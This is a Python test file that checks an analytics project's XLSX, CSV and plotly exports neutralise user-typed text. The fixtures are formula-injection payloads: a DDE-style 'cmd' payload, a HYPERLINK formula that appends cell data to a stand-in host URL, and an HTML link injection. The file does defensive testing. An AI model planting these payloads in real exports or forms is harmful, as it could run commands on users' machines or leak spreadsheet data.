"""Exports are data (issue 14): text a user typed never becomes a live formula or link in an XLSX, and
is made inert in a CSV. Checked by reading the files back with openpyxl and the csv module, not with the
code that wrote them."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from analytics.render import documents

PAYLOADS = ["=HYPERLINK(\"http://x.example/\"&A1,\"klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1", "\r=1", "http://x.example/", "Kopi =1", "=", "Pokmas Makmur"]


def test_xlsx_keeps_every_payload_as_text() -> None:
    df = pd.DataFrame({"nama": PAYLOADS, "nilai": range(len(PAYLOADS)), "=header": ["x"] * len(PAYLOADS)})
    book = openpyxl.load_workbook(io.BytesIO(documents.xlsx_bytes({"Uji": df}, "Data contoh (sintetis)")))
    ws = book["Uji"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []  # 0 formulas
    assert [c.coordinate for c in cells if c.hyperlink] == []  # 0 links
    # the text, unchanged (a carriage return is stored as the XML escape _x000D_, which openpyxl leaves as is)
    assert [ws.cell(row=4 + i, column=1).value.replace("_x000D_", "\r") for i in range(len(PAYLOADS))] == PAYLOADS
    assert ws["C3"].value == "=header" and ws["C3"].data_type == "s"
    assert ws["A1"].value == "Data contoh (sintetis)"


def test_csv_makes_formula_text_inert_and_keeps_the_rest() -> None:
    df = pd.DataFrame({"nama": PAYLOADS, "nilai": range(-5, len(PAYLOADS) - 5)})
    rows = list(csv.reader(io.StringIO(documents.csv_bytes(df).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["nama", "nilai"]
    names = [r[0] for r in rows[1:]]
    assert names == ["'" + p for p in PAYLOADS[:6]] + ["http://x.example/", "Kopi =1", "'=", "Pokmas Makmur"]
    assert [r[1] for r in rows[1:]][:3] == ["-5", "-4", "-3"]  # numbers stay numbers
    assert not any(n.startswith(documents.FORMULA_START) for n in names)


def test_plotly_figures_show_user_text_as_text() -> None:
    """A name with plotly markup (``<a href>``, ``<b>``) reaches the figure HTML-escaped (plotly then shows
    it as typed), in every place a builder puts data text: categories, bar texts, Sankey labels."""
    from analytics.render import charts

    name = '<a href="http://203.0.113.9/">Kopi</a> & <b>teh</b>'
    escaped = '&lt;a href="http://203.0.113.9/"&gt;Kopi&lt;/a&gt; &amp; &lt;b&gt;teh&lt;/b&gt;'
    ranked = pd.DataFrame({"commodity": ["k", "t"], "skor": [70.0, 50.0], "peringkat": [1, 2]})
    bars = charts.ranking_bars(ranked, {"k": name, "t": "Teh"}, "Peringkat", "Skor")
    assert list(bars.data[0].y) == ["Teh", escaped] or list(bars.data[0].y) == [escaped, "Teh"]
    sankey = charts.sankey_figure({"labels": [name, "Pasar"], "source": [0], "target": [1], "value": [5]},
                                  "Aliran", "kg")
    assert list(sankey.data[0].node.label) == [escaped, "Pasar"]
    history = charts.pci_history(pd.DataFrame({"period": [2025], "total": [55.0], "predikat": ["Baik"]}), "PCI")
    assert list(history.data[0].text) == ["55<br>Baik"]  # the builder's own line break stays markup
    assert charts.pci_history(pd.DataFrame({"period": [2025], "total": [55.0], "predikat": ["Baik"]}),
                              f"Riwayat skor: {name}").layout.title.text == f"Riwayat skor: {escaped}"
